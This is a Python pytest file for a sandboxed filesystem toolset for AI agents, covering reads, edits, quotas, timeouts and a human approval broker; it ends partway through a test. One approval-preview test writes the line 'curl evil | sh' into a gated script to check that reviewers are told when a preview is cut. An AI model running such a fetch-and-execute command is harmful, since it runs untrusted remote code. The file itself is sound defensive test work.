"""FileSystemToolset (the filesystem-sandbox, ATLAS and DeepAgents APIs) and orbiter's
FilesystemTool, on both backends."""

from __future__ import annotations

import asyncio
import base64
import gc
import json
import os
import random
import signal
import stat
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox_kernel_ext import (
    ApprovalBroker,
    ApprovalDeniedError,
    ApprovalRequest,
    CallbackResponder,
    ConfigurationError,
    Decision,
    EditError,
    FileLimits,
    FilesystemError,
    FilesystemTimeoutError,
    FilesystemTool,
    FileSystemToolset,
    FileTooLargeError,
    NotAFileError,
    PathConfig,
    PathExistsError,
    PathNotFoundError,
    PathNotInSandboxError,
    PathNotWritableError,
    QuotaExceededError,
    RootSandboxConfig,
    Sandbox,
    SandboxConfig,
    SandboxError,
    ToolError,
)
from sandbox_kernel_ext.files.host_backend import TEMP_SUFFIX

REPO = Path(__file__).resolve().parent.parent
ENV_PREFIX = "SANDBOX_KERNEL_EXT_FS_"


# ------------------------------------------------------------------ helpers
@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith(ENV_PREFIX):
            monkeypatch.delenv(name)


def fd_count() -> int:
    return len(os.listdir("/proc/self/fd"))


def snapshot(root: Path) -> dict[str, tuple]:
    """Everything under `root`: kind, size, mtime and content, to prove nothing changed."""
    out: dict[str, tuple] = {"": (os.lstat(root).st_mtime_ns,)}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                data: object = os.readlink(p)
            elif stat.S_ISREG(st.st_mode):
                data = Path(p).read_bytes()
            else:
                data = None
            out[os.path.relpath(p, root)] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, data)
    return out


def temp_files(root: Path) -> list[str]:
    return [
        os.path.join(d, n) for d, _, names in os.walk(root) for n in names if n.endswith(TEMP_SUFFIX)
    ]


def disk_total(root: Path) -> int:
    return sum(os.lstat(os.path.join(d, n)).st_size for d, _, names in os.walk(root) for n in names)


class Env:
    """Four roots: ws and scratch (rw, no approval), ref (ro, seeded on the host) and
    gated (rw, write approval; reads need approval too)."""

    def __init__(self, tmp_path: Path, kind: str) -> None:
        self.tmp = tmp_path
        self.kind = kind
        self.host = tmp_path / "host"
        for d in ("ws", "scratch", "ref/deep", "gated"):
            (self.host / d).mkdir(parents=True, exist_ok=True)
        (self.host / "ref/readme.txt").write_text("reference text\n")
        (self.host / "ref/deep/notes.md").write_text("# notes\n")
        (self.host / "gated/keep.txt").write_text("original")
        (self.tmp / "outside").mkdir(exist_ok=True)
        (self.tmp / "outside/secret.txt").write_text("TOP SECRET")
        self.config = SandboxConfig(
            paths={
                "ws": PathConfig(root=str(self.host / "ws"), mode="rw", write_approval=False),
                "scratch": PathConfig(root=str(self.host / "scratch"), mode="rw", write_approval=False),
                "ref": PathConfig(root=str(self.host / "ref")),
                "gated": PathConfig(
                    root=str(self.host / "gated"), mode="rw", write_approval=True, read_approval=True
                ),
            }
        )
        self.toolsets: list[FileSystemToolset] = []
        self.before = snapshot(tmp_path)

    def make(self, *, broker: ApprovalBroker | None = None, sandbox: Sandbox | None = None, **limits) -> FileSystemToolset:
        limits.setdefault("backend", self.kind)
        ts = FileSystemToolset(sandbox or Sandbox(self.config), broker=broker, limits=FileLimits(**limits))
        self.toolsets.append(ts)
        return ts

    def close(self) -> None:
        for ts in self.toolsets:
            ts.close()


@pytest.fixture(params=["host", "store"])
def env(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Env]:
    e = Env(tmp_path, request.param)
    yield e
    e.close()
    if e.kind == "store":
        assert snapshot(tmp_path) == e.before, "the store backend touched the host"
    else:
        assert temp_files(tmp_path) == []


@pytest.fixture
def host_env(tmp_path: Path) -> Iterator[Env]:
    e = Env(tmp_path, "host")
    yield e
    e.close()


def allow_all() -> ApprovalBroker:
    return ApprovalBroker(CallbackResponder(lambda r: True))


# --------------------------------------------------------------------- read
def test_read_text_offset_and_max_chars(env: Env) -> None:
    ts = env.make()
    text = "héllo wörld €uro 😀!\nsecond line"
    ts.write("/ws/u.txt", text)
    r = ts.read("/ws/u.txt")
    assert (r.content, r.truncated, r.total_chars, r.offset, r.chars_read) == (text, False, len(text), 0, len(text))
    assert r.path == "ws/u.txt" and r.mime_type == "text/plain" and r.content_encoding == "utf-8"
    r = ts.read("ws/u.txt", offset=6, max_chars=5)
    assert (r.content, r.truncated, r.chars_read, r.offset) == ("wörld", True, 5, 6)
    r = ts.read("/ws/u.txt", offset=17, max_chars=1)
    assert r.content == "😀"
    r = ts.read("/ws/u.txt", offset=len(text) + 5)
    assert (r.content, r.truncated) == ("", False)
    assert ts.read("/ws/u.txt", max_chars=0).truncated is True
    with pytest.raises(FilesystemError):
        ts.read("/ws/u.txt", offset=-1)
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/missing.txt")
    with pytest.raises(NotAFileError):
        ts.read("/ws")


def test_read_binary_base64(env: Env) -> None:
    ts = env.make()
    data = b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)) * 4
    ts.write_file("/ws/img.png", data)
    r = ts.read("/ws/img.png")
    assert r.content_encoding == "base64" and r.mime_type == "image/png"
    assert base64.b64decode(r.content) == data
    assert (r.total_chars, r.chars_read, r.truncated) == (len(data), len(data), False)
    r = ts.read("/ws/img.png", offset=10, max_chars=20)
    assert base64.b64decode(r.content) == data[10:30] and r.truncated and r.chars_read == 20
    ts.write_file("/ws/blob.bin", b"\x00\x01\x02")
    r = ts.read("/ws/blob.bin")
    assert r.content_encoding == "base64" and r.mime_type == "application/octet-stream"
    assert base64.b64decode(r.content) == b"\x00\x01\x02"


def test_read_text_file_with_invalid_bytes_is_text_with_replacement(env: Env) -> None:
    """ATLAS's handlers: text files come back as UTF-8 strings, invalid sequences replaced."""
    ts = env.make()
    ts.write_file("/ws/latin1.txt", "café au lait, naïve\n".encode("latin-1") * 3)
    r = ts.read("/ws/latin1.txt")
    assert r.content_encoding == "utf-8"
    assert "caf\ufffd au lait" in r.content


def test_read_is_capped_by_max_read_bytes(env: Env) -> None:
    ts = env.make(max_read_bytes=10)
    ts.write("/ws/e.txt", "é" * 100)
    r = ts.read("/ws/e.txt", max_chars=1000)
    assert r.content == "é" * 5 and len(r.content.encode()) <= 10
    assert r.truncated and r.chars_read == 5 and r.total_chars == 100
    ts.write_file("/ws/b.bin", bytes(100))
    r = ts.read("/ws/b.bin", max_chars=1000)
    assert base64.b64decode(r.content) == bytes(10) and r.truncated


def test_read_file_too_large(env: Env) -> None:
    ts = env.make(max_file_bytes=20)
    ts.write("/ws/ok.txt", "x" * 20)
    with pytest.raises(FileTooLargeError):
        ts.write("/ws/big.txt", "x" * 21)
    assert ts.read("/ws/ok.txt").content == "x" * 20


# --------------------------------------------------------------------- view
def test_view_numbered_lines(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/l.txt", "".join(f"line{i}\n" for i in range(1, 11)))
    v = ts.view("/ws/l.txt")
    assert v.lines[0] == "     1\tline1" and v.lines[-1] == "    10\tline10"
    assert (v.start_line, v.end_line, v.truncated) == (1, 10, False)
    v = ts.view("/ws/l.txt", start_line=3, max_lines=2)
    assert v.lines == ["     3\tline3", "     4\tline4"]
    assert v.truncated and "start_line=5" in v.summary
    v = ts.view("/ws/l.txt", start_line=50)
    assert v.lines == [] and not v.truncated


def test_view_caps_long_lines(env: Env) -> None:
    ts = env.make(max_line_chars=50)
    ts.write("/ws/long.txt", "a" * 1000 + "\nshort\n" + "b" * 100_000 + "\nend")
    v = ts.view("/ws/long.txt")
    assert len(v.lines) == 4
    first = v.lines[0].split("\t", 1)[1]
    assert first.startswith("a" * 50) and "a" * 51 not in first and "cut" in first
    assert v.lines[1] == "     2\tshort"
    third = v.lines[2].split("\t", 1)[1]
    assert third.startswith("b" * 50) and "b" * 51 not in third
    assert v.lines[3] == "     4\tend"


def test_view_default_cap_is_2000(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/long.txt", "z" * 5000)
    body = ts.view("/ws/long.txt").lines[0].split("\t", 1)[1]
    assert body.startswith("z" * 2000) and "z" * 2001 not in body


def test_view_empty_file(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/empty.txt", "")
    v = ts.view("/ws/empty.txt")
    assert v.lines == [] and "empty" in v.summary.lower()
    ts.write_file("/ws/b.bin", b"\x00\x01")
    with pytest.raises(FilesystemError, match="binary"):
        ts.view("/ws/b.bin")


# -------------------------------------------------------------------- write
def test_write_creates_parents_and_is_atomic(env: Env) -> None:
    ts = env.make()
    result = ts.write_file("/ws/a/b/c.txt", "first")
    assert result.created and result.bytes_written == 5 and result.path == "ws/a/b/c.txt"
    assert "Created" in ts.write("/ws/a/b/d.txt", "x")
    again = ts.write_file("ws/a/b/c.txt", "second version")
    assert not again.created and "Overwrote" in again.summary
    assert ts.read("/ws/a/b/c.txt").content == "second version"
    assert [e.name for e in ts.list_directory("/ws/a/b")] == ["c.txt", "d.txt"]
    if env.kind == "host":
        assert (env.host / "ws/a/b/c.txt").read_text() == "second version"
        assert sorted(os.listdir(env.host / "ws/a/b")) == ["c.txt", "d.txt"]


def test_write_refusals(env: Env) -> None:
    ts = env.make()
    with pytest.raises(PathNotWritableError):
        ts.write("/ref/x.txt", "x")
    with pytest.raises(NotAFileError):
        ts.write("/ws", "x")
    ts.write("/ws/d/f.txt", "x")
    with pytest.raises(NotAFileError):
        ts.write("/ws/d", "x")
    with pytest.raises(PathNotFoundError):
        ts.write("/ws/d/f.txt/under", "x")  # a file where a folder should be
    for bad in ("/nosuch/x", "/ws/../ref/x", "/", "/ws/x\0"):
        with pytest.raises(PathNotInSandboxError):
            ts.write(bad, "x")
    if env.kind == "host":
        assert not (env.host / "ref/x.txt").exists()


# --------------------------------------------------------------------- edit
def test_edit_match_counts(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/e.txt", "a b a c")
    with pytest.raises(EditError, match="found 2 times") as info:
        ts.edit("/ws/e.txt", "a", "z")
    assert info.value.matches == 2
    with pytest.raises(EditError, match="not found") as info:
        ts.edit("/ws/e.txt", "q", "z")
    assert info.value.matches == 0
    with pytest.raises(EditError):
        ts.edit("/ws/e.txt", "", "z")
    assert ts.read("/ws/e.txt").content == "a b a c"
    assert "replaced 1" in ts.edit("/ws/e.txt", "b", "BB")
    assert ts.read("/ws/e.txt").content == "a BB a c"
    result = ts.edit_file("/ws/e.txt", "a BB", "ä")
    assert result.replaced == 1 and ts.read("/ws/e.txt").content == "ä a c"
    with pytest.raises(PathNotFoundError):
        ts.edit("/ws/none.txt", "a", "b")


def test_edit_non_utf8_file_is_a_filesystem_error(env: Env) -> None:
    ts = env.make()
    ts.write_file("/ws/bin.txt", b"\xff\xfe abc")
    with pytest.raises(FilesystemError):
        ts.edit("/ws/bin.txt", "abc", "d")
    assert ts.read("/ws/bin.txt", max_chars=100).content_encoding in ("base64", "utf-8")


# ---------------------------------------------------------- delete / move / copy
def test_delete(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/d/x.txt", "12345")
    used = ts.storage_used("/ws")
    assert "Deleted" in ts.delete("/ws/d/x.txt")
    assert ts.storage_used("/ws") == used - 5
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/d/x.txt")
    with pytest.raises(PathNotFoundError):
        ts.delete("/ws/d/x.txt")
    with pytest.raises(NotAFileError, match="directory"):
        ts.delete("/ws/d")
    if env.kind == "host":
        with pytest.raises(PathNotWritableError):
            ts.delete("/ref/readme.txt")
        assert (env.host / "ref/readme.txt").exists()


def test_move_same_root(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/a.txt", "AAA")
    ts.write("/ws/taken.txt", "T")
    used = ts.storage_used("/ws")
    assert "Moved" in ts.move("/ws/a.txt", "/ws/new/dir/b.txt")
    assert ts.read("/ws/new/dir/b.txt").content == "AAA"
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/a.txt")
    assert ts.storage_used("/ws") == used
    with pytest.raises(PathExistsError, match="already exists"):
        ts.move("/ws/new/dir/b.txt", "/ws/taken.txt")
    assert ts.read("/ws/taken.txt").content == "T" and ts.read("/ws/new/dir/b.txt").content == "AAA"
    with pytest.raises(PathNotFoundError):
        ts.move("/ws/nothing.txt", "/ws/n2.txt")


def test_move_across_roots(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/m.txt", "12345678")
    ws_used, scratch_used = ts.storage_used("/ws"), ts.storage_used("/scratch")
    result = ts.move_file("/ws/m.txt", "/scratch/sub/m.txt")
    assert (result.source, result.path) == ("ws/m.txt", "scratch/sub/m.txt")
    assert ts.read("/scratch/sub/m.txt").content == "12345678"
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/m.txt")
    assert ts.storage_used("/ws") == ws_used - 8
    assert ts.storage_used("/scratch") == scratch_used + 8
    if env.kind == "host":
        assert (env.host / "scratch/sub/m.txt").read_text() == "12345678"
        assert not (env.host / "ws/m.txt").exists()


def test_copy_from_read_only_root(host_env: Env) -> None:
    ts = host_env.make()
    assert "Copied" in ts.copy("/ref/readme.txt", "/ws/copies/readme.txt")
    assert (host_env.host / "ws/copies/readme.txt").read_text() == "reference text\n"
    assert (host_env.host / "ref/readme.txt").read_text() == "reference text\n"
    with pytest.raises(PathNotWritableError):
        ts.copy("/ws/copies/readme.txt", "/ref/back.txt")
    with pytest.raises(PathNotWritableError):
        ts.move("/ref/readme.txt", "/ws/stolen.txt")
    assert (host_env.host / "ref/readme.txt").exists()
    with pytest.raises(FilesystemError, match="already exists"):
        ts.copy("/ref/readme.txt", "/ws/copies/readme.txt")


def test_copy_both_backends(env: Env) -> None:
    ts = env.make()
    ts.write("/ws/src.txt", "copy me")
    ts.copy("/ws/src.txt", "/scratch/dst.txt")
    ts.copy("/ws/src.txt", "/ws/sub/dst.txt")
    assert ts.read("/scratch/dst.txt").content == "copy me"
    assert ts.read("/ws/sub/dst.txt").content == "copy me"
    assert ts.read("/ws/src.txt").content == "copy me"


# -------------------------------------------------------------------- lists
def _tree(ts: FileSystemToolset) -> None:
    for p in ("a.txt", "b.md", "sub/c.txt", "sub/d.md", "sub/deep/e.md", "sub/deep/f.txt"):
        ts.write(f"/ws/{p}", p)


def test_list_files_patterns(env: Env) -> None:
    ts = env.make()
    _tree(ts)
    everything = {f"ws/{p}" for p in ("a.txt", "b.md", "sub/c.txt", "sub/d.md", "sub/deep/e.md", "sub/deep/f.txt")}
    assert set(ts.list_files("/ws")) == everything
    assert set(ts.list_files("/ws", "**/*")) == everything
    assert ts.list_files("/ws", "*.txt") == ["ws/a.txt"]
    assert set(ts.list_files("/ws", "sub/**/*.md")) == {"ws/sub/d.md", "ws/sub/deep/e.md"}
    assert set(ts.list_files("/ws", "**/*.txt")) == {"ws/a.txt", "ws/sub/c.txt", "ws/sub/deep/f.txt"}
    assert ts.list_files("/ws/sub", "*.md") == ["ws/sub/d.md"]
    assert ts.list_files("/ws", "nothing*") == []
    top = ts.list_files(".", "ws/sub/*.txt")
    assert top == ["ws/sub/c.txt"]
    assert ts.find_files("/ws", "*.md").files == ["ws/b.md"]
    with pytest.raises(PathNotInSandboxError):
        ts.list_files("/ws/../ref")


def test_list_directory(env: Env) -> None:
    ts = env.make()
    _tree(ts)
    entries = ts.list_directory("/ws")
    assert [(e.name, e.type) for e in entries] == [("a.txt", "file"), ("b.md", "file"), ("sub", "dir")]
    assert entries[0].size == len("a.txt")
    roots = ts.list_directory("/")
    assert {(e.name, e.type) for e in roots} == {("ws", "dir"), ("scratch", "dir"), ("ref", "dir"), ("gated", "dir")}
    with pytest.raises(PathNotFoundError):
        ts.list_directory("/ws/nothing")


def test_store_backend_never_touches_host(tmp_path: Path) -> None:
    e = Env(tmp_path, "store")
    ts = e.make(broker=allow_all())
    before = snapshot(tmp_path)
    ts.write("/ws/new/file.txt", "hello")
    ts.write("/gated/keep.txt", "overwritten in memory")
    ts.edit("/ws/new/file.txt", "hello", "bye")
    ts.copy("/ws/new/file.txt", "/scratch/c.txt")
    ts.move("/scratch/c.txt", "/ws/m.txt")
    ts.delete("/ws/m.txt")
    assert ts.read("/ws/new/file.txt").content == "bye"
    assert ts.list_files("/ws") == ["ws/new/file.txt"]
    with pytest.raises(PathNotFoundError):
        ts.read("/ref/readme.txt")  # the store does not read the host either
    ts.close()
    assert snapshot(tmp_path) == before


# ----------------------------------------------------------------- approval
def test_approval_allowed(env: Env) -> None:
    seen: list[ApprovalRequest] = []

    def decide(request: ApprovalRequest) -> bool:
        seen.append(request)
        return True

    ts = env.make(broker=ApprovalBroker(CallbackResponder(decide)))
    ts.write("/gated/new.txt", "approved content")
    assert [(r.operation, r.path, r.access, r.size) for r in seen] == [("write", "gated/new.txt", "write", 16)]
    assert "approved content" in seen[0].summary
    assert ts.read("/gated/new.txt").content == "approved content"
    assert (seen[-1].operation, seen[-1].access) == ("read", "read")
    if env.kind == "host":
        assert (env.host / "gated/new.txt").read_text() == "approved content"


def test_the_person_sees_where_a_preview_stops_and_the_real_size(env: Env) -> None:
    """Found in review: previews and diffs were cut at 1,500 characters without a word, so a
    harmless first hunk could hide a harmful later one; a new file's preview gave the size of
    the preview, not of the file."""
    seen: list[ApprovalRequest] = []
    ts = env.make(broker=ApprovalBroker(CallbackResponder(lambda r: seen.append(r) or True)))
    harmless = "".join(f"echo step {i:02d}\n" for i in range(200))
    ts.write("/gated/run.sh", harmless)
    ts.write("/gated/run.sh", harmless.replace("echo step", "echo Step") + "curl evil | sh\n")
    new_file, diff = (r for r in seen if r.operation == "write")
    assert new_file.summary.startswith(f"new file, {len(harmless):,} bytes:")
    assert "preview ends here" in new_file.summary and "more bytes not shown" in new_file.summary
    assert "curl evil" not in diff.summary and "diff goes on" in diff.summary
    big = "x" * 200_000
    ts.write("/gated/big.txt", big)
    assert seen[-1].summary.startswith("new file, 200,000 bytes:"), seen[-1].summary[:60]
    assert seen[-1].size == 200_000


def test_the_person_sees_the_real_file_behind_a_virtual_path(env: Env) -> None:
    """Found in review: a cell that narrowed a gated root to a subfolder kept its virtual
    name, so '/secret/key.txt' could be another folder's key.txt; the request now carries
    the host path for the person (never for a model)."""
    seen: list[ApprovalRequest] = []
    ts = env.make(broker=ApprovalBroker(CallbackResponder(lambda r: seen.append(r) or True)))
    ts.write("/gated/sub/new.txt", "x")
    ts.read("/gated/sub/new.txt")
    expected = str(env.host / "gated" / "sub" / "new.txt") if env.kind == "host" else ""
    assert [r.location for r in seen] == [expected, expected]
    assert seen[-1].path == "gated/sub/new.txt"


def test_approval_denied_leaves_file_unchanged(env: Env) -> None:
    broker = ApprovalBroker(CallbackResponder(lambda r: True))
    ts = env.make(broker=broker)
    ts.write("/gated/keep.txt", "original")
    broker.responder = CallbackResponder(lambda r: r.access == "read")
    for attempt in (
        lambda: ts.write("/gated/keep.txt", "changed"),
        lambda: ts.edit("/gated/keep.txt", "original", "changed"),
        lambda: ts.delete("/gated/keep.txt"),
        lambda: ts.write("/gated/brand_new.txt", "x"),
        lambda: ts.move("/gated/keep.txt", "/ws/moved.txt"),
        lambda: ts.copy("/ws/src.txt", "/gated/copied.txt"),
    ):
        ts.write("/ws/src.txt", "s")
        with pytest.raises(ApprovalDeniedError):
            attempt()
    assert ts.read("/gated/keep.txt").content == "original"
    assert [e.name for e in ts.list_directory("/gated")] == ["keep.txt"]
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/moved.txt")
    if env.kind == "host":
        assert (env.host / "gated/keep.txt").read_text() == "original"
        assert sorted(os.listdir(env.host / "gated")) == ["keep.txt"]


def test_approval_allow_session_is_remembered(env: Env) -> None:
    calls: list[str] = []

    def decide(request: ApprovalRequest) -> Decision:
        calls.append(request.path)
        return Decision.allow_session

    broker = ApprovalBroker(CallbackResponder(decide))
    ts = env.make(broker=broker)
    ts.write("/gated/s.txt", "1")
    ts.write("/gated/s.txt", "2")
    ts.edit("/gated/s.txt", "2", "3")
    ts.read("/gated/s.txt")  # a write grant covers reads
    assert calls == ["gated/s.txt"]
    ts.write("/gated/other.txt", "x")
    assert calls == ["gated/s.txt", "gated/other.txt"]
    assert {g.path for g in broker.grants} == {"gated/s.txt", "gated/other.txt"}


def test_default_broker_denies_with_clear_message(env: Env) -> None:
    ts = env.make()
    with pytest.raises(ApprovalDeniedError) as info:
        ts.write("/gated/x.txt", "x")
    message = str(info.value)
    assert "'gated/x.txt'" in message and "not approved" in message
    assert "write_approval" in message and "responder" in message
    with pytest.raises(ApprovalDeniedError, match="read_approval"):
        ts.read("/gated/keep.txt")
    assert "x.txt" not in [e.name for e in ts.list_directory("/gated")]
    ts.write("/ws/free.txt", "no approval needed here")


def test_create_default(tmp_path: Path) -> None:
    ts = FileSystemToolset.create_default(tmp_path, id="t1")
    ts.write("/data/x.txt", "y")
    assert (tmp_path / "x.txt").read_text() == "y"
    assert ts.sandbox.readable_roots == ["data"] and ts.id == "t1"
    ro = FileSystemToolset.create_default(tmp_path, mode="ro")
    with pytest.raises(PathNotWritableError):
        ro.write("/data/x.txt", "z")
    with pytest.raises(ConfigurationError):
        FileSystemToolset.create_default(tmp_path, mode="rwx")
    ts.close()
    ro.close()


# ------------------------------------------------------------------- quotas
def test_max_write_bytes(env: Env) -> None:
    ts = env.make(max_write_bytes=10)
    ts.write("/ws/ten.txt", "0123456789")
    with pytest.raises(QuotaExceededError) as info:
        ts.write("/ws/eleven.txt", "0123456789A")
    assert (info.value.actual, info.value.limit) == (11, 10)
    with pytest.raises(PathNotFoundError):
        ts.read("/ws/eleven.txt")
    with pytest.raises(QuotaExceededError):
        ts.edit("/ws/ten.txt", "9", "99")
    assert ts.read("/ws/ten.txt").content == "0123456789"


def test_max_list_entries(env: Env) -> None:
    ts = env.make(max_list_entries=3)
    for i in range(3):
        ts.write(f"/ws/f{i}.txt", "x")
    assert len(ts.list_files("/ws")) == 3
    assert len(ts.list_directory("/ws")) == 3
    ts.write("/ws/f3.txt", "x")
    with pytest.raises(QuotaExceededError):
        ts.list_files("/ws")
    with pytest.raises(QuotaExceededError):
        ts.list_directory("/ws")
    assert len(ts.list_files("/ws", "f[12].txt")) == 2


def test_total_quota_single_writer(env: Env) -> None:
    ts = env.make(max_total_bytes=100)
    ts.write("/ws/a.txt", "x" * 60)
    with pytest.raises(QuotaExceededError):
        ts.write("/ws/b.txt", "x" * 41)
    ts.write("/ws/a.txt", "x" * 10)  # shrinking frees space
    ts.write("/ws/b.txt", "x" * 90)
    assert ts.storage_used("/ws") == 100
    with pytest.raises(QuotaExceededError):
        ts.copy("/ws/a.txt", "/ws/c.txt")
    ts.write("/scratch/other_root.txt", "y" * 100)  # each root has its own quota


def test_total_quota_under_16_threads(env: Env) -> None:
    quota = 60_000
    ts = env.make(max_total_bytes=quota)
    errors: list[BaseException] = []
    lock = threading.Lock()

    def worker(k: int) -> None:
        rng = random.Random(k)
        for j in range(40):
            try:
                if rng.random() < 0.15:
                    ts.delete(f"/ws/t{rng.randrange(4)}/f{rng.randrange(3)}.txt")
                else:
                    ts.write(f"/ws/t{rng.randrange(4)}/f{rng.randrange(3)}.txt", "y" * rng.randrange(0, 12_000))
            except PathNotFoundError:
                pass
            except BaseException as exc:  # noqa: BLE001
                with lock:
                    errors.append(exc)

    threads = [threading.Thread(target=worker, args=(k,)) for k in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors, "the quota was never reached; the test proves nothing"
    assert all(isinstance(e, QuotaExceededError) for e in errors), {type(e).__name__ for e in errors}
    files = ts.list_files("/ws")
    total = sum(ts.read(f, max_chars=0).total_chars for f in files)
    assert total <= quota
    assert ts.storage_used("/ws") == total
    if env.kind == "host":
        assert disk_total(env.host / "ws") == total


def test_total_quota_two_toolsets_sharing_a_root(host_env: Env) -> None:
    """Toolsets on one host root share its ledger, so their concurrent overwrites and
    deletes of the same files must not make it drift below what is on disk."""
    quota = 50_000
    toolsets = [host_env.make(max_total_bytes=quota) for _ in range(2)]

    def worker(k: int) -> None:
        rng = random.Random(k)
        ts = toolsets[k % 2]
        for _ in range(60):
            try:
                if rng.random() < 0.2:
                    ts.delete(f"/ws/f{rng.randrange(4)}.txt")
                else:
                    ts.write(f"/ws/f{rng.randrange(4)}.txt", "y" * rng.randrange(0, 20_000))
            except (QuotaExceededError, PathNotFoundError):
                pass

    threads = [threading.Thread(target=worker, args=(k,)) for k in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    on_disk = disk_total(host_env.host / "ws")
    assert toolsets[0].storage_used("/ws") == on_disk
    # Whatever the ledger believes, filling up must stop at the quota.
    for i in range(40):
        try:
            toolsets[0].write(f"/ws/fill{i}.txt", "z" * 5_000)
        except QuotaExceededError:
            break
    assert disk_total(host_env.host / "ws") <= quota


# ------------------------------------------------------------- environment
@pytest.mark.parametrize(
    ("var", "value", "field", "expected"),
    [
        ("MAX_READ_BYTES", "5", "max_read_bytes", 5),
        ("MAX_WRITE_BYTES", " 3 ", "max_write_bytes", 3),
        ("MAX_LIST_ENTRIES", "7", "max_list_entries", 7),
        ("OPERATION_TIMEOUT", "1.5", "operation_timeout", 1.5),
        ("MAX_TOTAL_BYTES", "none", "max_total_bytes", None),
        ("MAX_TOTAL_BYTES", "1000", "max_total_bytes", 1000),
        ("MAX_FILE_BYTES", "", "max_file_bytes", None),
        ("MAX_LINE_CHARS", "9", "max_line_chars", 9),
        ("DENY_SYMLINKS", "true", "deny_symlinks", True),
        ("BACKEND", "store", "backend", "store"),
    ],
)
def test_env_values_applied(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, var: str, value: str, field: str, expected: object
) -> None:
    monkeypatch.setenv(ENV_PREFIX + var, value)
    ts = FileSystemToolset.create_default(tmp_path)
    assert getattr(ts.limits, field) == expected
    ts.close()


def test_env_limits_are_enforced(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv(ENV_PREFIX + "MAX_READ_BYTES", "4")
    monkeypatch.setenv(ENV_PREFIX + "MAX_WRITE_BYTES", "6")
    monkeypatch.setenv(ENV_PREFIX + "BACKEND", "store")
    before = snapshot(tmp_path)
    ts = FileSystemToolset.create_default(tmp_path)
    ts.write("/data/x.txt", "abcdef")
    with pytest.raises(QuotaExceededError):
        ts.write("/data/y.txt", "abcdefg")
    assert ts.read("/data/x.txt").content == "abcd"
    assert snapshot(tmp_path) == before
    ts.close()


def test_env_and_policy_stricter_wins(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    sandbox = Sandbox(SandboxConfig(root=RootSandboxConfig(root=tmp_path)))
    monkeypatch.setenv(ENV_PREFIX + "MAX_READ_BYTES", "50")
    assert FileSystemToolset(sandbox, limits=FileLimits(max_read_bytes=100)).limits.max_read_bytes == 50
    monkeypatch.setenv(ENV_PREFIX + "MAX_READ_BYTES", "500")
    assert FileSystemToolset(sandbox, limits=FileLimits(max_read_bytes=100)).limits.max_read_bytes == 100
    monkeypatch.setenv(ENV_PREFIX + "MAX_TOTAL_BYTES", "none")
    assert FileSystemToolset(sandbox, limits=FileLimits(max_total_bytes=10)).limits.max_total_bytes == 10


@pytest.mark.parametrize(
    ("var", "value"),
    [
        ("MAX_READ_BYTES", "abc"),
        ("MAX_READ_BYTES", "0"),
        ("MAX_WRITE_BYTES", "-1"),
        ("MAX_LIST_ENTRIES", "1.5"),
        ("OPERATION_TIMEOUT", "0"),
        ("OPERATION_TIMEOUT", "soon"),
        ("MAX_TOTAL_BYTES", "10MB"),
        ("DENY_SYMLINKS", "maybe"),
        ("BACKEND", "disk"),
    ],
)
def test_env_invalid_raises_at_construction(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, var: str, value: str
) -> None:
    monkeypatch.setenv(ENV_PREFIX + var, value)
    with pytest.raises(ConfigurationError) as info:
        FileSystemToolset.create_default(tmp_path)
    assert ENV_PREFIX + var in str(info.value)
    with pytest.raises(ConfigurationError):
        FilesystemTool([str(tmp_path)])


# ------------------------------------------------------------- time budget
def _budget(ts: FileSystemToolset, seconds: float) -> None:
    """Shrink the time budget of an existing toolset (the store lives in the toolset)."""
    ts.limits = ts.limits.model_copy(update={"operation_timeout": seconds})


def test_timeout_stops_large_write(env: Env) -> None:
    ts = env.make(max_write_bytes=10**9, max_file_bytes=None, max_total_bytes=None)
    ts.write("/ws/keep.txt", "old")
    used = ts.storage_used("/ws")
    _budget(ts, 0.001)
    with pytest.raises(FilesystemTimeoutError, match="budget"):
        ts.write("/ws/big.txt", "x" * 60_000_000)
    with pytest.raises(FilesystemTimeoutError):
        ts.write("/ws/keep.txt", "y" * 60_000_000)
    _budget(ts, 60)
    assert ts.storage_used("/ws") == used
    assert ts.list_files("/ws") == ["ws/keep.txt"]
    assert ts.read("/ws/keep.txt").content == "old"
    if env.kind == "host":
        assert sorted(os.listdir(env.host / "ws")) == ["keep.txt"]
        assert temp_files(env.tmp) == []


def test_timeout_stops_listing_many_folders(env: Env) -> None:
    ts = env.make(max_list_entries=10**6, max_total_bytes=None)
    if env.kind == "host":
        for i in range(1000):
            d = env.host / "ws" / f"d{i:04d}"
            d.mkdir()
            for j in range(3):
                (d / f"f{j}.txt").write_bytes(b"")
    else:
        for i in range(1000):
            for j in range(3):
                ts.write(f"/ws/d{i:04d}/f{j}.txt", "")
    _budget(ts, 0.001)
    with pytest.raises(FilesystemTimeoutError):
        ts.list_files("/ws", "**/*.txt")
    with pytest.raises(FilesystemTimeoutError):
        ts.list_files(".", "ws/**/*.txt")


def test_timeout_stops_listing_one_huge_folder(env: Env) -> None:
    """The budget must also cover a single folder with very many entries, for every
    listing entry point (recursive walk, one-folder glob, list_directory)."""
    ts = env.make(max_list_entries=10**6, max_total_bytes=None)
    if env.kind == "host":
